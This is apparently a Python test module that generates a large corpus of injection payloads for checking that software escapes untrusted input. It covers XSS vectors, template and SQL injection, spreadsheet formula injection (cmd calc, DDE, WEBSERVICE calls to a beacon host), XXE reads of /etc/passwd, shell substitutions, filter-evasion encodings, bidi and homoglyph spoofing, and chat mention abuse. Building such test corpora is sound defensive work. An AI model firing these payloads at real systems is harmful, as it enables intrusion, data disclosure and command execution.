"""Strings that do something somewhere when they are not inert: made here, of what runs, how it breaks out, and how it hides.

Nothing is taken from anybody's list: a list knows what was found, a product also what was not.
"""

import html
from collections.abc import Iterator
from itertools import cycle, product
from urllib.parse import quote

BEACON = "//beacon.example/"
"""Where whatever runs or loads would call."""

_SCRIPTS = ("alert(1)", "document.title='ran'", f"fetch('{BEACON}')", "window.ran=1", "top['al'+'ert'](1)")
_ELEMENTS = (
    "<script>{}</script>", "<ScRiPt\t/x>{}</sCrIpT\n>", f"<script src={BEACON}a.js></script>", "<img src=x onerror={}>",
    f"<img src={BEACON}a.png>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><set onbegin={} attributeName=x>",
    '<svg><a href="javascript:{}"><text>x</text></a></svg>',
    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
    '<math href="javascript:{}">x</math>', "<body onload={}>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<video><source onerror={}>", '<iframe srcdoc="<script>{}</script>">', '<iframe src="javascript:{}">',
    "<object data='javascript:{}'>", f"<embed src={BEACON}a.swf>", f"<link rel=stylesheet href={BEACON}a.css>",
    f"<style>@import '{BEACON}a.css';</style>", f"<p style='background:url({BEACON}a)'>x</p>", f"<base href={BEACON}>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>", "<form action='javascript:{}'><button autofocus>x</button></form>",
    "<template shadowrootmode=open><img src=x onerror={}></template>", "<a href='javascript:{}'>x</a>",
    "<xml:namespace prefix=t /><t:set onbegin={}>", "<select autofocus onfocus={}><option>x</select>",
    "<!--><img src=x onerror={}>-->",
)  # fmt: skip
_BREAKS = (
    "", '">', "'>", "</title>", "</textarea>", "</style></script>", "-->", "]]>", "</bdi></a></h1>", "`>", "</pre></code>",
    "</mark>", '"></option></select>',
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover={} x="',
    "' autofocus onfocus={} x='",
    '"\tstyle="animation:x" onanimationstart="{}',
    "` onclick={} ",
)
_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " \x01javascript:{}", "javascript&colon;{}", "&#106;avascript:{}",
    "javascript://x.example/%0a{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4x", "vbscript:{}",
    "file:///etc/passwd", "view-source:javascript:{}", "blob:https://x.example/{}", "feed:javascript:{}", "\u200bjavascript:{}",
    "//x.example/{}", "https:\\\\x.example\\{}", "https://known.example@x.example/{}", "https://x.example\\@known.example/{}",
    "https://known.example\u202e/{}", "http:{}", "jar:https://x.example!/{}", "ftp://x.example/{}",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{% import 'x' as x %}{{ x }}", "{{ ''.__class__.__mro__ }}", '{{ ask("freshness") }}', "{% raw %}{{ 7*7 }}",
    "{# x #}", "{%- endblock -%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "@(7*7)", "[[${7*7}]]", "{0.__class__}",
    "%(asctime)s %s %n", "$(id)", "`id`", "{{constructor.constructor('alert(1)')()}}", "<?php echo 7*7 ?>", "<% 7*7 %>",
)  # fmt: skip
_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "=-+")
_LEADS = (
    "", " ", "\t", "\r", "\n", ";", "x;", "x\n", "'", '"', "x,", 'x","', "\u00a0", "\u200b", "\ufeff", "\u3000", "\x00",
    "x\r\n;",
)  # fmt: skip
_FORMULAS = (
    f'HYPERLINK("https:{BEACON}","x")', "cmd|'/C calc'!A0", "SUM(1,1)", f'WEBSERVICE("https:{BEACON}")',
    'DDE("soffice","x","y")',
    f'IMPORTXML("https:{BEACON}","//a")', "1+1", "A1",
)  # fmt: skip
_UNSEEN = (
    "\u202egpj.exe", "\u2066x\u2069\u2067y", "\u200b\u200c\u200d\u2060", "a\u0301\u0489\u0489\u0489", "\u061cx\u200f",
    "pаypаl.example",
    "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x9b31mx", "\x08\x08\x08over", "x\x00y", "\rover the line", "\x0bx\x0cy",
    "\n2026-01-01 00:00:00 ERROR forged", "\u2028x\u2029y", "\ufffe\uffff", "\U000e0041\U000e0042", "\u0085next",
    "\u3164x\u115f",
)  # fmt: skip
_CHAT = (
    "@everyone", "@here", "<!channel>", "<!here|x>", "<@U012>", "<@&1>", "[bank](https://x.example/)",
    "<https://x.example|bank>",
    "[bank]\u200b(https://x.example/)", "@\u200beveryone", "*bold* _it_ ~no~ ||spoiler||", "```code", "/giphy x",
    "&lt;!channel&gt;",
    "![x](https://x.example/x.png)", "[x]: https://x.example", "<tg://user?id=1>", "@all @channel", "＠everyone",
    "<a href=x>y</a>",
)  # fmt: skip
_MARKUP = (
    "]]>", "<![CDATA[<script>alert(1)</script>]]>", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', "&e;",
    "&amp;lt;x",
    f"<?xml-stylesheet href='{BEACON}a.xsl'?>", "&lt;script&gt;alert(1)&lt;/script&gt;", "<entry><title>forged</title></entry>",
    '</title><link href="javascript:alert(1)"/>', "xmlns='x'", "<x:include href='file:///etc/passwd'/>", "&#0;&#x1b;&#xffff;",
)  # fmt: skip
_SQL = (
    "' OR 1=1 --", '"; DROP TABLE coverage; --', "') UNION SELECT sql FROM sqlite_master --", "'' '' '", '"""', "NEAR(x y",
    "title:x*",
    "%_\\", "x' || zeroblob(1000000000) || '", "$.x[#-1]", '","x', "\\u003cscript\\u003e",
)  # fmt: skip
_LONG = (
    "A" * 40_000,
    "🧨" * 4_000,
    "a " * 4_000,
    '"' * 4_000,
    "<" * 4_000,
    "\\" * 4_000,
    "a\u0301" * 2_000,
    "=1;" * 4_000,
    "&" * 4_000,
)


def _hidden(text: str) -> Iterator[str]:
    """Ways to write markup so that only what decodes once too often sees it."""
    yield html.escape(text)
    yield html.escape(html.escape(text))
    yield "".join(f"&#{ord(c)};" if c in "<>\"'/:" else c for c in text)
    yield "".join(f"&#x{ord(c):x}" if c in "<>" else c for c in text)
    yield quote(text)
    yield quote(quote(text))
    yield text.translate(str.maketrans("<>\"'=()", "＜＞＂＇＝（）"))
    yield "".join(f"\\u{ord(c):04x}" if c in "<>\"'" else c for c in text)
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield text.replace("<", "<\x00").replace("script", "scr\x00ipt")
    yield text.replace("script", "scr\u200bipt").replace("<", "\u200b<")


def _all() -> Iterator[str]:
    scripts = cycle(_SCRIPTS)
    breaks = cycle(_BREAKS)  # their numbers have no common divisor, so that each meets each of the others
    for _ in range(6):
        yield from (next(breaks) + element.format(next(scripts)) for element in _ELEMENTS)
    yield from (attribute.format(script) for attribute, script in product(_ATTRIBUTES, _SCRIPTS))
    yield from (scheme.format(next(scripts)) for scheme in _SCHEMES)
    formulas = cycle(_FORMULAS)
    yield from (lead + start + next(formulas) for lead, start in product(_LEADS, _STARTS))
    for element in _ELEMENTS[:6]:
        yield from _hidden(element.format(next(scripts)))
    for texts in (_TEMPLATES, _UNSEEN, _CHAT, _MARKUP, _SQL, _LONG):
        yield from texts


PAYLOADS = tuple(dict.fromkeys(_all()))
